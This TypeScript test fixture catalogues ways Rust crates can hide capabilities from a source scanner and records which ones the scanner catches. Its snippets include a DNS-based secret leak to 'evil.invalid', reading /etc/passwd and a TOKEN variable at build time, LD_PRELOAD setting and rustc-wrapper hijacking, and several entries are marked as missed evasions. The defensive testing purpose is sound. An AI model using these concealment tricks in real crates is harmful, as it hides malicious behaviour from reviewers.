/**
 * Ways to hide a power from whoever reads source, each as a small piece of a crate, and what becomes of it. The names are
 * those of the tables in docs/caveats.md, and a test holds both together: what the document says was tried.
 *
 * A row that says `missed` is no wish: when caps learns to see it, the test fails, and the row and the document change.
 */

export interface Evasion {
  readonly name: string
  /** `seen`: the report has the capability. `unknown`: the coverage has the loss. `missed`: the report has neither. */
  readonly answer: 'seen' | 'unknown' | 'missed'
  /** The capability or kind of loss; of `missed` a capability that is reported in the place of the hidden one. */
  readonly as?: string
  readonly code: string
  /** Where the code stands; a module of the crate's library unless given. `build`: a module of the build script. */
  readonly place?: 'build' | `${string}/${string}` | 'rust-toolchain.toml'
  /** Files beside it. */
  readonly files?: Readonly<Record<string, string>>
}

const EXIT = 'pub fn f() { std::process::exit(3) }\n'
const SPAWN = 'let _ = std::process::Command::new("x").spawn();'

const NAMES: readonly Evasion[] = [
  { name: 'glob imports', answer: 'seen', as: 'fs/read', code: 'use std::fs::*;\npub fn f() { let _ = read("x"); }' },
  {
    name: 'renames and re-exports',
    answer: 'seen',
    as: 'exec',
    code: 'mod h { pub use std::process as p; }\nuse h::p::Command as C;\npub fn f() { let _ = C::new("x").spawn(); }',
  },
  {
    name: 'a dependency that re-exports std',
    answer: 'seen',
    as: 'exec',
    code: 'pub fn f() { let _ = facade::run::Command::new("x").spawn(); }',
  },
  {
    name: '`extern crate std as …`',
    answer: 'seen',
    as: 'process/exit',
    code: 'extern crate std as core2;\npub fn f() { core2::process::abort() }',
  },
  { name: 'raw identifiers', answer: 'seen', as: 'fs/read', code: 'pub fn f() { let _ = r#std::r#fs::r#read("x"); }' },
  {
    name: 'type aliases and qualified paths',
    answer: 'seen',
    as: 'fs/read',
    code: 'type F = std::fs::File;\npub fn f() { let _ = <F>::open("x"); }',
  },
]

const VALUES: readonly Evasion[] = [
  {
    name: 'functions as values, in tables, as arguments',
    answer: 'seen',
    as: 'fs/read',
    code: 'static T: [fn(&str) -> std::io::Result<Vec<u8>>; 1] = [std::fs::read];\npub fn f() { let _ = T[0]("x"); }',
  },
  {
    name: 'closures behind `dyn Fn`',
    answer: 'seen',
    as: 'exec',
    code: `pub fn f() { let g: Box<dyn Fn()> = Box::new(|| { ${SPAWN} }); g() }`,
  },
  {
    name: '`Drop`, `Display`, `From`, operators: calls that nobody writes',
    answer: 'seen',
    as: 'exec',
    code: `struct D;\nimpl Drop for D { fn drop(&mut self) { ${SPAWN} } }\npub fn f() { let _x = D; }`,
  },
  {
    name: 'associated constants that hold functions',
    answer: 'seen',
    as: 'process/exit',
    code: 'trait H { const F: fn(i32) -> !; }\nstruct A;\nimpl H for A { const F: fn(i32) -> ! = std::process::exit; }\nfn g<T: H>() { (T::F)(3); }\npub fn f() { g::<A>() }',
  },
]

const TEXT: readonly Evasion[] = [
  {
    name: 'macros that put a path together token by token',
    answer: 'seen',
    as: 'process/exit',
    code: 'macro_rules! call { ($f:ident) => { std::process::$f(3) } }\npub fn f() { call!(exit); }',
  },
  {
    name: 'code in files with other names (`include!`, `#[path]`)',
    answer: 'seen',
    as: 'process/exit',
    code: 'include!(concat!("pay", "load.bin"));',
    files: { 'src/payload.bin': EXIT },
  },
  {
    name: '`#[path]` behind `cfg_attr`',
    answer: 'seen',
    as: 'process/exit',
    code: '#[cfg_attr(all(), path = "hidden.txt")]\nmod h;',
    files: { 'src/hidden.txt': EXIT },
  },
  { name: 'what a proc macro returns', answer: 'unknown', as: 'proc macro', code: '#[macros::swap]\npub fn f() {}' },
  {
    name: 'files that a build script writes',
    answer: 'unknown',
    as: 'generated code',
    code: 'include!(concat!(env!("OUT_DIR"), "/g.rs"));',
  },
  {
    name: 'a `#[path]` that leads out of the package',
    answer: 'unknown',
    as: 'missing file',
    code: '#[path = "../../../outside.rs"]\nmod h;',
  },
  {
    name: 'macros of a crate that is not there',
    answer: 'unknown',
    as: 'unresolved macro',
    code: 'nowhere::go! { 1 }',
  },
  {
    name: 'syntax that the parser does not know',
    answer: 'unknown',
    as: 'syntax error',
    code: 'pub fn f() { let x = = ; }',
  },
  {
    name: 'characters that turn or hide text',
    answer: 'unknown',
    as: 'text trick',
    code: 'pub fn f() { /* \u202e */ }',
  },
]

const BELOW: readonly Evasion[] = [
  {
    name: 'C functions declared by hand, under other names (`link_name`)',
    answer: 'seen',
    as: 'exec',
    code: 'unsafe extern "C" { #[link_name = "execve"] fn harmless(a: *const u8, b: usize, c: usize) -> i32; }\npub fn f() { unsafe { harmless(std::ptr::null(), 0, 0); } }',
  },
  {
    name: 'Windows functions by `raw-dylib`',
    answer: 'seen',
    as: 'exec',
    code: '#[link(name = "kernel32", kind = "raw-dylib")]\nunsafe extern "system" { fn WinExec(a: *const u8, b: u32) -> u32; }\npub fn f() { unsafe { WinExec(std::ptr::null(), 0); } }',
  },
  {
    name: 'foreign functions that no map names',
    answer: 'seen',
    as: 'ffi',
    code: 'unsafe extern "Rust" { #[link_name = "_ZN3std7process4exit17h0123456789abcdefE"] fn quiet(code: i32) -> !; }\npub fn f() { unsafe { quiet(3) } }',
  },
  {
    name: 'code before `main`, symbols over those of libc, allocators',
    answer: 'seen',
    as: 'hook',
    code: '#[unsafe(export_name = "open")]\npub extern "C" fn harmless() -> i32 { 0 }',
  },
  {
    name: 'assembly',
    answer: 'seen',
    as: 'asm',
    code: '#[unsafe(naked)]\npub extern "C" fn f() { std::arch::naked_asm!("ret") }',
  },
  {
    name: 'a number turned into a function by `transmute`',
    answer: 'seen',
    as: 'memory/exec',
    code: 'pub fn f(a: usize) { let g: fn() = unsafe { std::mem::transmute(a) }; g() }',
  },
  {
    name: 'a number turned into a function by a union, a pointer, `transmute_copy`',
    answer: 'missed',
    as: 'unsafe',
    code: 'union U { a: usize, f: fn() }\npub fn f(a: usize) { let g = unsafe { U { a }.f }; g() }',
  },
  {
    name: 'a native library that is linked and never called',
    answer: 'seen',
    as: 'ffi',
    code: '#[link(name = "other", kind = "static")]\nunsafe extern "C" {}',
  },
  {
    name: 'soundness bugs of the compiler',
    answer: 'missed',
    code: "static UNIT: &&() = &&();\nfn id<'a, 'b, T>(_: &'a &'b (), v: &'b T) -> &'a T { v }\npub fn expand<'a, 'b, T>(x: &'a T) -> &'b T { let f: fn(_, &'a T) -> &'b T = id; f(UNIT, x) }",
  },
]

const BUILD: readonly Evasion[] = [
  {
    name: 'build scripts anywhere (`build = "x/y.rs"`), and what they use',
    answer: 'seen',
    as: 'exec',
    place: 'build',
    code: `pub fn main() { ${SPAWN} }`,
  },
  {
    name: 'directives to cargo as text',
    answer: 'seen',
    as: 'build/link',
    place: 'build',
    code: 'pub fn main() { println!("cargo:rustc-link-lib=z"); }',
  },
  {
    name: 'variables that the compiler reads (`env!`, `option_env!`)',
    answer: 'seen',
    as: 'env/read',
    code: 'pub const T: Option<&str> = option_env!("TOKEN");',
  },
  {
    name: 'files outside of the package that the compiler reads (`include_str!`, `include_bytes!`)',
    answer: 'seen',
    as: 'fs/read',
    code: 'pub const P: &str = include_str!("/etc/passwd");',
  },
  {
    name: 'directives to cargo that are computed',
    answer: 'missed',
    as: 'stdio',
    place: 'build',
    code: 'pub fn main() { let key = "rustc-link-arg"; println!("cargo:{key}=-Wl,x"); }',
  },
  {
    name: 'a program of the package that is called `rustc` or `cc`',
    answer: 'missed',
    place: 'src/bin/rustc.rs',
    code: 'fn main() {}',
  },
  {
    name: 'tests, examples, benches, documentation tests',
    answer: 'missed',
    place: 'tests/t.rs',
    code: `#[test]\nfn t() { ${SPAWN} }`,
  },
]

const SELECTION: readonly Evasion[] = [
  { name: 'code for one platform only', answer: 'seen', as: 'exec', code: `#[cfg(windows)]\npub fn f() { ${SPAWN} }` },
  {
    name: 'platforms that are not looked at',
    answer: 'missed',
    code: `#[cfg(target_arch = "sparc64")]\npub fn f() { ${SPAWN} }`,
  },
  {
    name: 'features of a processor (`target_feature = "avx2"`)',
    answer: 'seen',
    as: 'exec',
    code: `#[cfg(target_feature = "avx2")]\npub fn f() { ${SPAWN} }`,
  },
  { name: 'features that are not on', answer: 'missed', code: `#[cfg(feature = "extra")]\npub fn f() { ${SPAWN} }` },
  {
    name: 'release builds only (`not(debug_assertions)`)',
    answer: 'seen',
    as: 'exec',
    code: `#[cfg(not(debug_assertions))]\npub fn f() { ${SPAWN} }`,
  },
  {
    name: 'builds of documentation only (`docsrs`)',
    answer: 'missed',
    code: `#[cfg(docsrs)]\npub fn f() { ${SPAWN} }`,
  },
  {
    name: 'options that a build script or whoever builds sets (`--cfg nightly`), builds of tools (`miri`)',
    answer: 'seen',
    as: 'exec',
    code: `#[cfg(any(stealth, miri))]\npub fn f() { ${SPAWN} }`,
  },
]

const HARMLESS_LOOKING: readonly Evasion[] = [
  {
    name: 'builds that do not unwind (`panic = "abort"`)',
    answer: 'seen',
    as: 'exec',
    code: `#[cfg(panic = "abort")]\npub fn f() { ${SPAWN} }`,
  },
  {
    name: 'programs that `.cargo/config.toml` names (`rustc-wrapper`, `linker`, `runner`, `credential-provider`)',
    answer: 'seen',
    as: 'exec',
    place: '.cargo/config.toml',
    code: '[build]\nrustc-wrapper = "./x.sh"\nrustflags = ["--cfg", "lurking"]\n',
  },
  {
    name: 'a directory of programs that `rust-toolchain.toml` names in the place of rustc and cargo (`path`)',
    answer: 'seen',
    as: 'exec',
    place: 'rust-toolchain.toml',
    code: '[toolchain]\npath = "tools"\n',
  },
  {
    name: 'options of rustc that `.cargo/config.toml` sets (`--cfg`)',
    answer: 'seen',
    as: 'exec',
    code: `#[cfg(lurking)]\npub fn f() { ${SPAWN} }`,
  },
  {
    name: 'files that are more than files (`/proc/self/mem`, `~/.bashrc`)',
    answer: 'seen',
    as: 'fs/write',
    code: 'pub fn f() { let _ = std::fs::write("/proc/self/mem", "x"); }',
  },
  {
    name: 'variables that change other programs (`LD_PRELOAD`, `PATH`)',
    answer: 'seen',
    as: 'env/write',
    code: 'pub fn f() { unsafe { std::env::set_var("LD_PRELOAD", "./x.so") } }',
  },
  {
    name: 'sockets that are files (`docker.sock`)',
    answer: 'seen',
    as: 'network/connect',
    code: 'pub fn f() { let _ = std::os::unix::net::UnixStream::connect("/run/docker.sock"); }',
  },
  {
    name: 'names looked up to carry data',
    answer: 'seen',
    as: 'network/resolve',
    code: 'pub fn f(secret: &str) { use std::net::ToSocketAddrs; let _ = (format!("{secret}.evil.invalid").as_str(), 0).to_socket_addrs(); }',
  },
  {
    name: 'handles that were inherited (`from_raw_fd`)',
    answer: 'seen',
    as: 'fs/write',
    code: 'use std::io::Write;\nuse std::os::fd::FromRawFd;\npub fn f() { let mut s = unsafe { std::fs::File::from_raw_fd(7) }; let _ = s.write_all(b"x"); }',
  },
  {
    name: 'handles that somebody else made',
    answer: 'missed',
    code: 'pub fn f(to: &mut dyn std::io::Write) { let _ = to.write_all(b"x"); }',
  },
  {
    name: 'data that is a program for an interpreter',
    answer: 'missed',
    code: 'pub fn f(program: &[u8]) -> u64 { program.iter().fold(0, |a, b| a.wrapping_mul(31) + u64::from(*b)) }',
  },
]

export const EVASIONS: readonly Evasion[] = [
  ...NAMES,
  ...VALUES,
  ...TEXT,
  ...BELOW,
  ...BUILD,
  ...SELECTION,
  ...HARMLESS_LOOKING,
]
